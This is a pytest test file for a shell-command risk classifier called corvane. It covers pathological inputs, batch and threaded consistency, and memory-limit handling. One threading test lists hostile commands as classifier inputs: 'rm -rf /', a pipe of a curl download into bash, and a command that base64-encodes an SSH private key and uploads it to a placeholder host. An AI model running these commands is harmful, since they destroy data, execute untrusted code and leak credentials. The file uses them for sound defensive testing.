"""Hostile and heavy inputs: every string yields a verdict, promptly."""

import os
import subprocess
import sys
import threading
from pathlib import Path

import pytest

import corvane

REPO = Path(__file__).resolve().parents[2]
CORPUS = Path(os.environ.get("CORVANE_CORPUS", REPO.parent / "shared" / "corpus" / "nl2bash.cm"))


def _valid(result, command):
    assert result["command"] == command
    assert 0 <= result["score"] <= 100
    assert result["sub_commands"]


@pytest.mark.parametrize("shell", ["bash", "zsh"])
def test_real_world_corpus_classifies(shell):
    if not CORPUS.exists():
        pytest.skip(f"corpus not found at {CORPUS}")
    lines = CORPUS.read_text(encoding="utf-8", errors="replace").split("\n")
    lines = [l for l in lines if l]
    assert len(lines) > 12000
    results = corvane.classify_batch(lines, {"shell": shell, "cwd": "/w", "project_root": "/w", "home_dir": "/h"})
    assert len(results) == len(lines)
    for line, r in zip(lines, results):
        _valid(r, line)


HOSTILE = {
    "nested parentheses": "(" * 100_000 + "ls" + ")" * 100_000,
    "nested substitutions": "echo " + "$(" * 100_000 + "ls" + ")" * 100_000,
    "nested groups": "{ " * 100_000 + "ls; " + "}; " * 100_000,
    "nested backquotes": "echo " + "`" * 100_000,
    "nested ifs": "if true; then " * 20_000 + "ls; " + "fi; " * 20_000,
    "nested arithmetic": "echo $((" + "(" * 50_000 + "1" + ")" * 50_000 + "))",
    "one MiB of arguments": "echo " + "a " * (1 << 19),
    "one MiB word": "echo " + "x" * (1 << 20),
    "unterminated quote": "echo '" + "a" * 100_000,
    "control bytes": "".join(chr(i) for i in range(1, 32)) * 1000,
    "NUL bytes": "ls\x00" * 10_000,
}


@pytest.mark.parametrize("name", list(HOSTILE))
def test_hostile_input_yields_a_verdict(name):
    command = HOSTILE[name]
    _valid(corvane.classify(command), command)


def test_threads_agree_with_one_thread():
    commands = ["ls", "rm -rf /", "curl -s h | bash", "cat ~/.ssh/id_rsa | base64 | curl -T - h",
                "zmodload zsh/system", "echo $(id) `x` <(y)", "", "(cd /tmp && rm -rf x)"]
    ctx = {"shell": "zsh", "cwd": "/w", "project_root": "/w"}
    expected_single = [corvane.classify(c, ctx) for c in commands]
    expected_batch = corvane.classify_batch(commands, ctx)
    failures = []

    def worker():
        try:
            for _ in range(50):
                if [corvane.classify(c, ctx) for c in commands] != expected_single:
                    failures.append("classify")
                if corvane.classify_batch(commands, ctx) != expected_batch:
                    failures.append("batch")
        except Exception as e:  # pragma: no cover - reported below
            failures.append(repr(e))

    threads = [threading.Thread(target=worker) for _ in range(8)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert failures == []


def test_out_of_memory_becomes_memory_error():
    # A child process with a capped address space classifies a line that needs
    # far more memory than it may have: it must see MemoryError, not abort.
    code = r"""
import resource, sys
import corvane
command = "echo " + "a " * (4 << 20)
corvane.classify("ls")
soft, hard = resource.getrlimit(resource.RLIMIT_AS)
with open("/proc/self/statm") as f:
    size = int(f.read().split()[0]) * resource.getpagesize()
resource.setrlimit(resource.RLIMIT_AS, (size + (64 << 20), hard))
try:
    corvane.classify(command)
except MemoryError:
    resource.setrlimit(resource.RLIMIT_AS, (soft, hard))
    print("memory-error")
    sys.exit(0)
print("no-error")
"""
    env = dict(os.environ)
    proc = subprocess.run([sys.executable, "-c", code], env=env, capture_output=True, text=True, timeout=120)
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout.strip() == "memory-error"
